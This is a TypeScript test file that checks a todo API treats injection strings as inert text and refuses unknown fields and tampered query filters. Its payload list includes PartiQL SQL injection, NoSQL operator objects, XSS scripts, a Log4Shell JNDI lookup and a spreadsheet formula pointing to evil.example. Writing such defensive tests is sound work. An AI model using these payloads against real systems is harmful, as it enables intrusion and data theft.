import { todos } from '../fixture/entities';
import { Case, CaseFile } from '../harness/case';
import { anId, anInstant, itemLike } from '../harness/matchers';
import { refused } from '../harness/problems';
import { get, patch, post } from '../harness/requests';

/** Texts that mean something to some machine, and nothing to this one. */
const texts: [what: string, text: string][] = [
  ['a condition', 'attribute_not_exists(id) OR :v = :v'],
  ['an update', 'SET #x = :y REMOVE title'],
  ['a placeholder', ':v'],
  ['a name placeholder', '#n'],
  ['PartiQL', "'; DELETE FROM todo WHERE id = '1'; --"],
  ['an operator object as text', '{"$ne":1}'],
  ['a script', '<script>alert(1)</script><svg onload=alert(1)>'],
  ['a formula', '=HYPERLINK("http://evil.example","x")'],
  ['a log line', 'a\n2027-01-01 ERROR forged\u001b[31m'],
  ['a template', '${jndi:ldap://evil.example/a} {{7*7}}'],
  ['a link', 'javascript:alert(1)'],
  ['__proto__', '__proto__'],
];

/** Members that name an attribute of the table, a path or a placeholder: none is a field. */
const names = ['_scope', '_token', '_life', '_ttl', 'a.b', 'tags[0]', '#x', ':v', 'title.x', 'SET', 'ID', 'Title', '$ne', 'owner'];

const stored = { id: anId, createdAt: anInstant, updatedAt: anInstant, version: 1, completed: false };

export const injection: CaseFile = {
  topic: 'injection',
  cases: [
    ...texts.map(([what, text]): Case => ({
      name: `${what} is a text like any other`,
      request: post('/todos', { title: text, tags: [text] }),
      as: 'created',
      status: 201,
      body: { ...stored, title: text, tags: [text] },
      calls: [todos.putItem({ title: text, tags: [text], completed: false })],
      after: [{
        request: patch('/todos/{created.id}', { description: text }),
        status: 200,
        body: itemLike('created', { description: text, updatedAt: anInstant, version: 2 }),
        calls: [todos.patchItem('{created.id}', { set: { description: text } })],
      }],
    })),
    ...names.map((name): Case => ({
      name: `a member ${name} is unknown, in a create and in a patch`,
      given: { todo: { title: 'a' } },
      request: post('/todos', { title: 'a', [name]: 'x' }),
      ...refused(400, 'validation-failed', [{ pointer: `/${name}`, code: 'unknown' }]),
      after: [{
        request: patch('/todos/{todo.id}', { [name]: null }),
        ...refused(400, 'validation-failed', [{ pointer: `/${name}`, code: 'unknown' }]),
      }],
    })),
    {
      name: 'an operator object is no text',
      request: post('/todos', { title: { $ne: 1 } }),
      ...refused(400, 'validation-failed', [{ pointer: '/title', code: 'type' }]),
    },
    {
      name: 'a filter value cannot leave its place',
      request: get('/todos?completed=true%20OR%20attribute_exists(id)'),
      ...refused(400, 'invalid-parameter', [{ parameter: 'completed' }]),
    },
    {
      name: 'a filter name cannot leave its place',
      request: get('/todos?completed%20OR%20id=true'),
      ...refused(400, 'invalid-parameter', [{ parameter: 'completed OR id' }]),
    },
  ],
};
